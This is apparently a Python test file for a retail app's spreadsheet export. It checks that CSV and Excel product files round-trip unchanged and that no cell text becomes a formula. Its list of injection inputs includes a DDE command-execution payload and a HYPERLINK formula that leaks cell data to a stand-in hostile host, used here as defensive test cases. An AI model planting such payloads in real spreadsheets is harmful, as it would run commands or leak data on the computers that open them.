"""What leaves for a spreadsheet comes back the same, and does nothing on the computer that opens it."""

from __future__ import annotations

import csv
import errno
import os
from collections.abc import Callable, Iterator
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from tests.spreadsheets.lists import CATALOGUE, ShopDesk
from varejoforte_desktop.application.product_plan import Action, drafted
from varejoforte_desktop.application.product_sheet import COLUMNS
from varejoforte_desktop.application.questions import ExportRow
from varejoforte_desktop.domain.errors import DomainError
from varejoforte_desktop.domain.money import Money
from varejoforte_desktop.domain.product import Product
from varejoforte_desktop.domain.sheet_errors import SheetNotWritten
from varejoforte_desktop.domain.texts import folded
from varejoforte_desktop.spreadsheets.formula_shield import escaped, shielded, unescaped, unshielded
from varejoforte_desktop.spreadsheets.reading import read_sheet
from varejoforte_desktop.spreadsheets.writing import write_csv, write_xlsx

NAMES = [column.name for column in COLUMNS]
WRITERS = {"csv": write_csv, "xlsx": write_xlsx}
Write = Callable[[Path, list[ExportRow]], None]

INJECTIONS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://mau.example/?"&A1,"clique")',
    "+55 11 99999-0000",
    "-10% à vista",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "''+1",
    "'",
    "''",
    "'citado'",
    "=",
    "-",
    ";=1+1",
    '"=1+1',
    "#N/A",
    "#REF!",
    "_x000D_",
    "_x005F_x000D_",
    "a\r\nb\rc\nd",
    "\x01\x0b\x1f\x7f\x85\u2028\ufffe\uffff",
    "  espaços  ",
    "   ",
    "\ufeffBOM",
    "1e5",
    "2026-11-20",
    "007",
    "VERDADEIRO",
    "🧉 chimarrão",
]


@pytest.fixture(params=sorted(WRITERS))
def kind(request: pytest.FixtureRequest) -> str:
    return str(request.param)


def product(**fields: object) -> Product:
    return Product(**({"id": 1, "reference": "A", "name": "Panela"} | fields)).checked()  # type: ignore[arg-type]


def row(each: Product, *, brand: str = "", category: str = "", on_hand: str = "0") -> ExportRow:
    return ExportRow(product=each, brand=brand, category=category, on_hand=Decimal(on_hand))


FULL = row(
    product(
        reference="PAN-1",
        name="Panela",
        barcode="7894488022790",
        ncm="76151000",
        unit="KG",
        price=Money(123490),
        cost=Money(5),
        promotional_price=Money(99900),
        promotion_start=date(2026, 11, 20),
        promotion_end=date(2026, 12, 1),
        minimum_stock=Decimal("0.25"),
        safety_stock=Decimal(1),
        counter_reserve=Decimal("2.5"),
        weight=1350,
        length=36,
        model="M",
        warranty="1 ano",
        description="Boa",
        sell_online=False,
    ),
    brand="Fervalto",
    category="Cozinha > Panelas",
    on_hand="1234.567",
)


def test_a_csv_is_what_excel_in_portuguese_opens_with_a_double_click(tmp_path: Path) -> None:
    write_csv(tmp_path / "p.csv", [FULL])
    content = (tmp_path / "p.csv").read_bytes()
    assert content.startswith(b"\xef\xbb\xbfreferencia;nome;")
    assert content.count(b"\r\n") == 2
    assert content.endswith(b"\r\n")
    with (tmp_path / "p.csv").open(encoding="utf-8-sig", newline="") as file:
        cells = next(csv.DictReader(file, delimiter=";", strict=True))
    assert list(cells) == NAMES
    assert NAMES[:21] == CATALOGUE.read_text("utf-8").partition("\n")[0].split(";")
    assert [cells[name] for name in ("preco", "custo", "estoque", "estoque_minimo", "estoque_seguranca")] == [
        "1234,90",
        "0,05",
        "1234,567",
        "0,250",
        "1",
    ]
    assert (cells["inicio_promocao"], cells["vender_na_loja"], cells["ativo"]) == ("2026-11-20", "não", "sim")


def test_a_workbook_has_numbers_days_and_texts_and_a_heading_that_stays(tmp_path: Path) -> None:
    write_xlsx(tmp_path / "p.xlsx", [FULL])
    sheet = load_workbook(tmp_path / "p.xlsx").active
    heading = [cell.value for cell in sheet[1]]
    assert heading == NAMES
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    cells = dict(zip(heading, sheet[2], strict=True))
    assert (cells["preco"].value, cells["preco"].number_format) == (1234.9, "#,##0.00")
    assert (cells["estoque"].value, cells["estoque"].data_type) == (1234.567, "n")
    assert (cells["peso_g"].value, cells["estoque_seguranca"].value) == (1350, 1)
    assert (cells["ean"].value, cells["ean"].data_type, cells["ean"].number_format) == (
        "7894488022790",
        "s",
        "@",
    )
    assert cells["inicio_promocao"].is_date
    assert sheet.column_dimensions["B"].width > sheet.column_dimensions["H"].width > 0


@pytest.mark.parametrize("text", INJECTIONS)
def test_no_text_is_a_formula_in_a_csv(tmp_path: Path, text: str) -> None:
    write_csv(
        tmp_path / "p.csv", [row(product(name=f"x{text}", description=text, model=text[:150]), brand=text)]
    )
    with (tmp_path / "p.csv").open(encoding="utf-8-sig", newline="") as file:
        cells = list(csv.reader(file, delimiter=";", strict=True))[1]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


@pytest.mark.parametrize("text", INJECTIONS)
def test_no_text_is_a_formula_in_a_workbook(tmp_path: Path, text: str) -> None:
    write_xlsx(tmp_path / "p.xlsx", [row(product(description=text), brand=text)])
    for cell in load_workbook(tmp_path / "p.xlsx").active[2]:
        assert cell.data_type in {"s", "n"}
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
            assert cell.quotePrefix, "editing it in Excel would make a formula of it"


def test_numbers_are_not_shielded(tmp_path: Path) -> None:
    write_csv(tmp_path / "p.csv", [FULL])
    assert b"'" not in (tmp_path / "p.csv").read_bytes()


@given(st.text())
@example("'=")
def test_a_shielded_text_is_read_back_exactly(text: str) -> None:
    assert unshielded(shielded(text)) == text


@given(st.text())
@example("_x005F_x0041_")
def test_an_escaped_text_is_read_back_exactly(text: str) -> None:
    assert unescaped(escaped(text)) == text


def test_an_apostrophe_that_we_did_not_put_there_stays() -> None:
    assert [unshielded(text) for text in ("'citado'", "'", "''", "d'água", "'1")] == [
        "'citado'",
        "'",
        "''",
        "d'água",
        "'1",
    ]


def changes_on_return(path: Path, kind: str, rows: list[ExportRow]) -> list[object]:
    """Write, read, plan against the same products: what would change or is wrong."""
    WRITERS[kind](path, rows)
    sheet = read_sheet(path)
    kept = {folded(each.product.reference): each for each in rows}
    drafts = drafted(sheet.rows, kept, lambda _barcode, _other: None)
    assert [draft.before for draft in drafts] == [each.product for each in rows]
    return [
        (draft.number, draft.changes, draft.errors)
        for draft in drafts
        if draft.action is not Action.UNCHANGED
    ]


@pytest.mark.parametrize("text", INJECTIONS)
def test_nasty_texts_come_back_the_same(tmp_path: Path, kind: str, text: str) -> None:
    nasty = product(
        reference=f"A{text}"[:60],
        name=f"N{text}",
        short_description=text,
        description=text,
        model=text,
        warranty=text,
    )
    assert changes_on_return(tmp_path / f"p.{kind}", kind, [row(nasty), FULL]) == []


texts = st.text(max_size=40).filter(lambda text: "\0" not in text)
amounts = st.decimals(0, 10**6, places=3).map(lambda amount: amount.quantize(Decimal("0.001")))


@st.composite
def products(draw: st.DrawFn) -> ExportRow:
    """Whatever the books could hold."""
    kept = Product(
        id=1,
        reference=draw(texts),
        name=draw(texts),
        barcode=draw(st.sampled_from(["", "7894488022790", "00000000", "12345670", "036000291452"])),
        unit=draw(st.sampled_from(["UN", "KG", "PÇ"])),
        price=Money(draw(st.integers(0, 10**13))),
        cost=Money(draw(st.integers(0, 10**13))),
        promotion_start=draw(st.none() | st.dates()),
        promotion_end=draw(st.none() | st.dates()),
        minimum_stock=draw(amounts),
        safety_stock=draw(amounts),
        counter_reserve=draw(amounts),
        weight=draw(st.integers(0, 10**9)),
        height=draw(st.integers(0, 10**9)),
        model=draw(texts),
        warranty=draw(texts),
        short_description=draw(texts),
        description=draw(texts),
        sell_online=draw(st.booleans()),
        active=draw(st.booleans()),
    )
    try:
        kept = kept.checked()
    except DomainError:
        kept = Product(id=1, reference="A", name="B", description=kept.description)
    if len(folded(kept.reference)) > 60:
        kept = Product(id=1, reference="A", name="B", description=kept.description)
    brand = " ".join(draw(texts).split())
    on_hand = draw(amounts) if kept.fractional else Decimal(draw(st.integers(0, 10**9)))
    return ExportRow(
        product=kept, brand=brand, category=draw(st.sampled_from(["", "=A > -B", "C"])), on_hand=on_hand
    )


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(exported=products())
def test_whatever_the_books_hold_comes_back_the_same(tmp_path: Path, kind: str, exported: ExportRow) -> None:
    assert changes_on_return(tmp_path / f"p.{kind}", kind, [exported]) == []


def test_the_demo_catalogue_goes_out_and_comes_back_without_change(shop: ShopDesk, kind: str) -> None:
    assert shop.plan(CATALOGUE).counts == {
        Action.NEW: 300,
        Action.CHANGED: 0,
        Action.UNCHANGED: 0,
        Action.ERROR: 0,
    }
    receipt = shop.take_in(CATALOGUE)
    assert (receipt.new, receipt.changed, receipt.unchanged) == (300, 0, 0)
    assert shop.check().problems == ()
    before = shop.catalogue()
    WRITERS[kind](shop.folder / f"saida.{kind}", before)
    assert shop.plan(shop.folder / f"saida.{kind}").counts[Action.UNCHANGED] == 300
    again = shop.take_in(shop.folder / f"saida.{kind}")
    assert (again.new, again.changed, again.unchanged, again.moved) == (0, 0, 300, 0)
    assert shop.catalogue() == before


def test_an_exported_shop_founds_the_same_shop_elsewhere(shop: ShopDesk, tmp_path: Path, kind: str) -> None:
    from tests.spreadsheets.lists import open_shop

    shop.take_in(CATALOGUE)
    WRITERS[kind](tmp_path / f"saida.{kind}", shop.catalogue())
    other = open_shop(f"sqlite:///{tmp_path / 'outra.db'}", tmp_path)
    try:
        other.take_in(tmp_path / f"saida.{kind}")
        assert [_without_ids(each) for each in other.catalogue()] == [
            _without_ids(each) for each in shop.catalogue()
        ]
    finally:
        other.database.close()


def _without_ids(each: ExportRow) -> tuple[object, ...]:
    from dataclasses import replace

    return (
        replace(each.product, id=0, version=0, brand_id=None, category_id=None),
        each.brand,
        each.category,
        each.on_hand,
    )


def test_a_file_is_replaced_whole_and_nothing_is_left_beside_it(tmp_path: Path, kind: str) -> None:
    path = tmp_path / f"p.{kind}"
    path.write_text("antes", encoding="utf-8")
    WRITERS[kind](path, [FULL])
    assert len(read_sheet(path).rows) == 1
    assert [each.name for each in tmp_path.iterdir()] == [path.name]


def test_an_export_that_fails_half_way_leaves_the_old_file(tmp_path: Path, kind: str) -> None:
    path = tmp_path / f"p.{kind}"
    path.write_text("antes", encoding="utf-8")

    def failing() -> Iterator[ExportRow]:
        yield FULL
        raise ZeroDivisionError

    with pytest.raises(ZeroDivisionError):
        WRITERS[kind](path, failing())  # type: ignore[arg-type]
    assert path.read_text("utf-8") == "antes"
    assert [each.name for each in tmp_path.iterdir()] == [path.name]


@pytest.mark.parametrize(
    ("error", "why"),
    [
        (PermissionError(errno.EACCES, "in use"), "locked"),
        (OSError(errno.ENOSPC, "full"), "disk_full"),
        (OSError(errno.EIO, "broken"), "failed"),
    ],
)
def test_a_file_that_cannot_be_written_says_why(
    tmp_path: Path, kind: str, monkeypatch: pytest.MonkeyPatch, error: OSError, why: str
) -> None:
    path = tmp_path / f"p.{kind}"
    path.write_text("antes", encoding="utf-8")

    def refuse(*_: object) -> None:
        raise error

    monkeypatch.setattr(os, "fsync", refuse)
    with pytest.raises(SheetNotWritten) as caught:
        WRITERS[kind](path, [FULL])
    assert caught.value.why == why
    assert path.read_text("utf-8") == "antes"
    assert [each.name for each in tmp_path.iterdir()] == [path.name]


def test_a_folder_that_is_not_there_is_said(tmp_path: Path, kind: str) -> None:
    with pytest.raises(SheetNotWritten) as caught:
        WRITERS[kind](tmp_path / "nada" / f"p.{kind}", [FULL])
    assert caught.value.why == "no_folder"
